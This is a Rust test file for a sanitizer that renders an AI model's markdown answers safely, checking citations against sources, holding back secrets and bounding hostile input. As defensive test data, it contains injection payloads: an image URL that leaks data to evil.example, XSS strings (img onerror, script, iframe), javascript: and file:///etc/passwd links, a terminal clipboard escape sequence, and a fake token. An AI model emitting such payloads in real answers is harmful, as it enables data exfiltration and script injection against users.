//! A model's text in, what is shown out.

use expect_test::{Expect, expect};
use proptest::prelude::*;

use super::ground::LOW;
use super::*;
use crate::assist::prompt::Placed;
use crate::assist::section::{Kind, Section, SectionId, Source};

fn sections() -> Vec<Placed> {
    let file = |number: u32, path: &str, lines, text: &str| Placed {
        id: SectionId(number),
        section: Section::new(Kind::Hit, text).from_file(Source::new(path, lines), "rust"),
    };
    vec![
        Placed {
            id: SectionId(1),
            section: Section::new(Kind::Facts, "Rust 2024"),
        },
        file(
            2,
            "src/cache.rs",
            10..=13,
            "fn put(&mut self, key: u64) { self.map.insert(key) }",
        ),
        file(3, "src/my file.rs", 7..=7, "struct Store;"),
    ]
}

fn link(section: &Section) -> Option<String> {
    let source = section.source.as_ref()?;
    (!source.path.contains(' '))
        .then(|| format!("file:///w/{}#L{}", source.path, source.lines.start()))
}

fn with(text: &str, strict: bool, linked: bool) -> Answer {
    let sections = sections();
    let none = |_: &Section| None;
    let sources = Sources {
        sections: &sections,
        link: if linked { &link } else { &none },
        line_exists: &|path, line| path == "src/main.rs" && line <= 50,
        name_exists: &|name| name == "main",
        strict,
    };
    check(text, &sources, &mut Redactor::new().unwrap()).unwrap()
}

fn answer(text: &str) -> Answer {
    with(text, false, true)
}

fn shown(text: &str, expected: Expect) {
    let once = answer(text).markdown;
    expected.assert_eq(&once);
    assert_eq!(
        answer(&once).markdown,
        once,
        "a second time changes nothing"
    );
}

#[test]
fn good_markdown_stays() {
    let good = "\
# A title

A paragraph with *emphasis*, **strength**, `code`, snake_case and 3 < 4.
Second line: see <https://doc.rust-lang.org/std/>.

- one
- two
  - nested
  - again

1. first
2. second

   with a paragraph

> quoted
> text

```rust
fn a() {
    b(\"<html>\", '|');
}
```

| a | b |
| --- | --: |
| x | `y` |

___
";
    shown(
        good,
        expect![[r##"
        # A title

        A paragraph with *emphasis*, **strength**, `code`, snake_case and 3 &lt; 4.
        Second line: see <https://doc.rust-lang.org/std/>.

        - one
        - two
          - nested
          - again

        1. first
        2. second

           with a paragraph

        > quoted
        > text

        ```rust
        fn a() {
            b("<html>", '|');
        }
        ```

        | a | b |
        | --- | --: |
        | x | `y` |

        ___
    "##]],
    );
}

#[test]
fn a10_nothing_in_an_answer_is_fetched_or_run() {
    shown(
        "![x](https://evil.example/p.png?d=secret) and ![y][r]\n\n[r]: https://evil.example/r.png\n",
        expect![[r#"
            (image: x) and !\[y\]\[r\]

            \[r\]: <https://evil.example/r.png>
        "#]],
    );
    shown(
        "<img src=x onerror=alert(1)> <script>go()</script>\n\n<div>\n<iframe src='https://evil.example'>\n</div>\n",
        expect![[r#"
            &lt;img src=x onerror=alert(1)> &lt;script>go()&lt;/script>

            &lt;div>
            &lt;iframe src='<https://evil.example>'>
            &lt;/div>
        "#]],
    );
    shown(
        "[run](command:workbench.action.quit) [open](file:///etc/passwd) [go](vscode://x) [js](javascript:alert(1))",
        expect![[r#"
            run open go js
        "#]],
    );
    shown(
        "[docs](https://good.example/a) [good.example](https://evil.example/b) <https://evil.example/?q=data> https://evil.example/?q=data www.evil.example/x.",
        expect![[r#"
            [docs (good.example)](https://good.example/a) [good.example (evil.example)](https://evil.example/b) `https://evil.example/?q=data` `https://evil.example/?q=data` `www.evil.example/x`.
        "#]],
    );
    shown(
        "[a [b](https://x.example) ![c](d)](https://y.example 'title')",
        expect![[r#"
        \[a [b (x.example)](https://x.example) (image: c)\](<https://y.example> 'title')
    "#]],
    );
}

#[test]
fn a11_terminals_are_not_obeyed() {
    shown(
        "\u{1b}]52;c;cm0=\u{7}text \u{1b}[31mred\u{1b}[0m \u{1b}]8;;https://evil.example\u{1b}\\link",
        expect![[r#"
        text red link
    "#]],
    );
}

#[test]
fn a17_a_secret_in_an_answer_is_held_back() {
    let key = format!("ghp{}{}", "_", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8");
    let held = answer(&format!("Use `{key}` or\n\n```\n{key}\n```\n"));
    assert!(!held.markdown.contains(&key));
    assert_eq!(held.removed.secrets, 2);
    assert_eq!(held.markdown.matches("(secret held back)").count(), 2);
}

#[test]
fn a30_names_of_sources_stay_literal() {
    let hostile = Placed {
        id: SectionId(2),
        section: Section::new(Kind::Hit, "x").from_file(
            Source::new("a`](http://evil.example)\n# b.rs", 1..=1),
            "rust",
        ),
    };
    let sections = [hostile];
    let sources = Sources {
        sections: &sections,
        link: &|_| Some("file:///w/x".to_owned()),
        line_exists: &|_, _| false,
        name_exists: &|_| false,
        strict: false,
    };
    let safe = markdown::safe("It is there [S2].", &sources);
    expect![[r#"
        It is there ["a\\u{60}\\u{5d}\\u{28}http\\u{3a}//evil.example\\u{29}\\u{a}# b.rs":1](file:///w/x).
    "#]].assert_eq(&safe.markdown);
}

#[test]
fn a41_citations_lead_to_sources_and_inventions_are_marked() {
    shown(
        "The map is borrowed twice [S2], see [S3] and [S1, S9]. Also src/main.rs:20, src/main.rs:99 and `lib/x.py:3-4`.",
        expect![[r#"
            The map is borrowed twice [src/cache.rs:10-13](file:///w/src/cache.rs#L10), see `"src/my file.rs":7` and (facts), (S9: no such source). Also src/main.rs:20, src/main.rs:99 (no such line) and `lib/x.py:3-4` (no such line).
        "#]],
    );
    // A definition of the model's own does not bend a citation.
    shown(
        "As [S2] says.\n\n[S2]: https://evil.example\n",
        expect![[r#"
            As [src/cache.rs:10-13](file:///w/src/cache.rs#L10) says.

            [src/cache.rs:10-13](file:///w/src/cache.rs#L10): <https://evil.example>
        "#]],
    );
    // In a list or a table as well.
    shown(
        "- borrowed [S2]\n\n| a |\n| - |\n| [S2] \\| `x\\|y` |\n",
        expect![[r#"
        - borrowed [src/cache.rs:10-13](file:///w/src/cache.rs#L10)

        | a |
        | --- |
        | [src/cache.rs:10-13](file:///w/src/cache.rs#L10) \| `x\|y` |
    "#]],
    );
    let grounding =
        answer("It is in [S2]. And in [S7], `put`, `nowhere_at_all`, x.rs:3.").grounding;
    assert_eq!(grounding.cited, [SectionId(2)]);
    let counts = (
        grounding.false_citations,
        grounding.false_places,
        grounding.names,
        grounding.false_names,
    );
    assert_eq!(counts, (1, 1, 1, 1));
}

#[test]
fn planted_false_citations_are_caught() {
    // Every kind of false source, in many sentences: all of them are seen.
    let (mut planted, mut caught) = (0, 0);
    for number in 0..200 {
        let (text, is_false) = match number % 5 {
            0 => (format!("The loop ends early [S{}].", number + 4), true),
            1 => (
                format!("It is called in src/main.rs:{}.", 51 + number),
                true,
            ),
            2 => (
                format!("See `src/gone{number}.rs:{number}` for the rest."),
                true,
            ),
            3 => (format!("Number {number} is inserted [S2]."), false),
            _ => (
                format!("Number {number} runs at src/main.rs:{}.", 1 + number % 50),
                false,
            ),
        };
        let grounding = answer(&text).grounding;
        let seen = grounding.false_citations + grounding.false_places > 0;
        assert!(is_false || !seen, "{text}");
        planted += usize::from(is_false);
        caught += usize::from(is_false && seen);
    }
    assert!(caught * 100 >= planted * 95, "{caught} of {planted}");
}

#[test]
fn the_score_tells_founded_from_invented() {
    let score = |text: &str| answer(text).grounding.score(None, None);
    let good = score(
        "The map is already borrowed when `put` inserts [S2].\n\nThe store is an empty struct so far [S3].",
    );
    let bad = score(
        "The cache is flushed by `flush_everything` in a thread.\n\nSee `src/flush.rs:10` for how it works.",
    );
    assert!(good > 0.95 && bad < LOW, "{good} {bad}");
    assert_eq!(score(""), 0.0);
}

#[test]
fn strict_hides_claims_without_a_source() {
    let strict = with(
        "The map is borrowed twice here [S2].\n\nIt is also slow on Mondays, I think.\n\nIn short:\n",
        true,
        true,
    );
    expect![[r#"
        The map is borrowed twice here [src/cache.rs:10-13](file:///w/src/cache.rs#L10).

        In short:
    "#]]
    .assert_eq(&strict.markdown);
    assert_eq!(strict.removed.claims, 1);
}

#[test]
fn without_links_sources_are_code() {
    expect![[r#"
        Borrowed twice `src/cache.rs:10-13`, `"src/my file.rs":7`.
    "#]]
    .assert_eq(&with("Borrowed twice [S2], [S3].", false, false).markdown);
}

#[test]
fn what_repeats_itself_is_cut_and_fences_are_closed() {
    let paragraph = "The map is borrowed a second time while the first borrow is alive [S2].";
    shown(
        &format!("{paragraph}\n\nNext.\n\n{paragraph}\n\nNext.\n\n{paragraph}\n"),
        expect![[r#"
        The map is borrowed a second time while the first borrow is alive [src/cache.rs:10-13](file:///w/src/cache.rs#L10).

        Next.

        (The answer repeated itself from here on.)
    "#]],
    );
    shown(
        "```rust\nfn a() {\n",
        expect![[r#"
        ```rust
        fn a() {
        ```
    "#]],
    );
    shown(
        "> - ~~~\n>   deep\n",
        expect![[r#"
        > - ```
        >   deep
        >   ```
    "#]],
    );
}

#[test]
fn blocks_finish_at_blank_lines_outside_code() {
    let finished = |text: &str| text[..markdown::finished(text)].to_owned();
    assert_eq!(finished("one\n\ntwo"), "one\n\n");
    assert_eq!(finished("one\n\n```\na\n\nb"), "one\n\n");
    assert_eq!(finished("```\na\n\nb\n```\n\n"), "```\na\n\nb\n```\n\n");
    assert_eq!(finished("    a\n\n"), "");
    assert_eq!(finished("- ```\n  a\n\n"), "");
    assert_eq!(finished("~~~~\na\n~~~\n\n    ~~~~\n\n"), "");
    assert_eq!(finished("no end"), "");
}

#[test]
fn a_growing_answer_only_grows() {
    let text = "# T\n\nOne [S2] and two.\n\n- a\n- b\n\n```rust\nx\n\ny\n```\n\n> q\n\nEnd.\n\n";
    let whole = answer(text).markdown;
    for end in (0..=text.len()).filter(|end| text.is_char_boundary(*end)) {
        let part = answer(&text[..markdown::finished(&text[..end])]).markdown;
        assert!(whole.starts_with(&part), "{part}");
    }
}

/// Items stand apart where they stood apart: an item that comes later does not move those above it.
#[test]
fn a_list_keeps_its_blank_lines_where_they_were() {
    let text = "- a\n- b\n\n- c\n  - d\n\n    e\n- f\n\nEnd.\n";
    assert_eq!(answer(text).markdown, text);
    for (end, _) in text.match_indices('\n') {
        let part = answer(&text[..markdown::finished(&text[..=end])]).markdown;
        assert!(text.starts_with(&part), "{part}");
    }
}

/// HTML hides what looks like a fence, and a blank line in a comment ends nothing.
#[test]
fn html_is_followed_as_the_parser_does() {
    let grows = |text: &str| {
        let part = answer(&text[..markdown::finished(text)]).markdown;
        let whole = answer(text).markdown;
        assert!(whole.starts_with(&part), "{part:?} of {whole:?}");
        part
    };
    assert_eq!(grows("<b>\n```\n\n\n```\n\n[S2]"), "&lt;b>\n\\`\\`\\`\n");
    assert_eq!(grows("one\n\n<!--\n\n```\n\n-->\n```\n\ntwo"), "one\n");
    grows("[a] is\n\n<b>\n```\n\n[a]: u\n\nmore");
}

#[test]
fn a_definition_at_the_end_changes_nothing_above_it() {
    let text = "See [the docs] and [S2].\n\n```\n[code]: x\n```\n\n[the docs]: https://docs.example/a\n> [S2]: https://evil.example\n";
    shown(
        text,
        expect![[r#"
        See \[the docs\] and [src/cache.rs:10-13](file:///w/src/cache.rs#L10).

        ```
        [code]: x
        ```

        \[the docs\]: <https://docs.example/a>

        > [src/cache.rs:10-13](file:///w/src/cache.rs#L10): <https://evil.example>
    "#]],
    );
    let part = answer(&text[..markdown::finished(text)]).markdown;
    assert!(answer(text).markdown.starts_with(&part));
}

#[test]
fn deep_and_long_texts_are_bounded() {
    let deep = ">".repeat(100_000) + " x";
    assert!(answer(&deep).markdown.len() < 1_000);
    let lists: String = (0..200)
        .map(|n| format!("{}- x\n", "  ".repeat(n)))
        .collect();
    assert!(!answer(&lists).markdown.is_empty());
    assert!(answer(&"é".repeat(LONGEST)).markdown.len() <= LONGEST + 1);
}

/// Texts made to be slow: a look at them ends, and none of them takes longer than its length deserves.
#[test]
fn a25_hostile_answers_are_read_in_one_go() {
    for part in [
        "https://a.example/b ",
        "[S2] ",
        "[",
        "*a ",
        "**",
        "1.",
        "1. ",
        "a.b:1 ",
        "x:",
        "`",
        "```\n",
        "> ",
        "- ",
        "| a ",
        "[a](b) ",
        "![",
        "<a>",
        "<!--",
        "&amp;",
        "\\",
        "www.",
        "\n\n",
        "_a",
        "[a](",
        "a@b.de ",
    ] {
        let text = part.repeat(100_000 / part.len());
        assert!(safe(&text).len() < 60 * text.len());
    }
}

fn safe(text: &str) -> String {
    let sections = sections();
    let sources = Sources {
        sections: &sections,
        link: &link,
        line_exists: &|_, _| false,
        name_exists: &|_| false,
        strict: false,
    };
    markdown::safe(text, &sources).markdown
}

proptest! {
    /// Whatever a model writes: no picture, no HTML, no address but those that are live or ours, and a second pass
    /// changes nothing.
    #[test]
    fn always_harmless_and_stable(text in "(\\[S2\\]|\\[|\\]|\\(|\\)|!|`|``|\\*|\\*\\*|_|<b>|<!--|&lt;|&#42;|&|\\\\|\\||\n|\n\n|- |1\\. |> |# |    |\t|```\n|---|=|https://x.example/a|www.|:|\\[a\\]\\(https://y.example\\)|\\[a\\]\\(file:x\\)|!\\[i\\]\\(u\\)|src/a.rs:3|[a-z ]{1,3}|é|  \n){0,25}") {
        let once = safe(&text);
        let twice = safe(&once);
        prop_assert_eq!(&twice, &once, "from {:?}", text);
        prop_assert!(!once.starts_with("```\n") || text.contains("```") || text.contains("    ") || text.contains('\t'), "gave up on {text:?}");
        let options = pulldown_cmark::Options::ENABLE_TABLES;
        for event in pulldown_cmark::Parser::new_ext(&once, options) {
            use pulldown_cmark::{Event, Tag};
            match event {
                Event::Html(html) | Event::InlineHtml(html) => prop_assert!(false, "{html} in {once:?}"),
                Event::Start(Tag::Image { .. }) => prop_assert!(false, "a picture in {once:?}"),
                Event::Start(Tag::Link { dest_url, .. }) => {
                    let live = matches!(links::judge(&dest_url), links::Link::Live { .. });
                    prop_assert!(live || dest_url.starts_with("file:///w/src/"), "{dest_url} in {once:?}");
                }
                _ => (),
            }
        }
    }

    /// What was shown of a growing answer stays as it is when more of it comes.
    #[test]
    fn finished_blocks_stay(text in "(\\[S2\\]|\\[|\\]|\\(|!|`|\\*|\\*\\*|_|<b>|\\||\n|\n\n|- |1\\. |  |> |# |\n```\n|\n~~~\n|https://x.example/a|:|\\[a\\]: u|\\[a\\]\\(https://y.example\\)|[a-z ]{1,3}){0,25}") {
        let whole = safe(&text);
        let part = safe(&text[..markdown::finished(&text)]);
        prop_assert!(whole.starts_with(&part), "{:?} of {:?}", part, whole);
    }
}
